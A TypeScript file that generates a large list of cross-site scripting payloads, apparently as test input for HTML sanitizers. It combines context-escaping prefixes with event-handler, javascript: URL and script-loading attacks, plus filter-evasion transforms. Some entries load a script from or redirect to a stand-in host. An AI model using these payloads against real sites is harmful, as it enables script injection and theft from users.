/** What ends the text, the attribute or the element that a page puts somebody's words into. */
const ENDS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '</p>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '</option>',
  '-->',
  ']]>',
  '\u2028',
];

const ATTACKS = [
  '<script>alert(1)</script>',
  '<script src=//spy.example/a.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onload="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"></svg>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<p style="animation-name:x" onanimationstart=alert(1)>x</p>',
  '<meta http-equiv="refresh" content="0;url=//spy.example">',
];

/** How filters of words are passed. */
const DISGUISES: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => attack.toUpperCase().replaceAll('ALERT', 'alert'),
  (attack) => attack.replaceAll(' ', '/'),
  (attack) => attack.replaceAll('alert(1)', 'al\\u0065rt`1`'),
];

/** Over 1,066 texts that run a script or load something of another site where a page takes them for its markup. */
export const NAUGHTY_MARKUP: readonly string[] = [
  ...new Set(ENDS.flatMap((end) => ATTACKS.flatMap((attack) => DISGUISES.map((disguise) => end + disguise(attack))))),
];
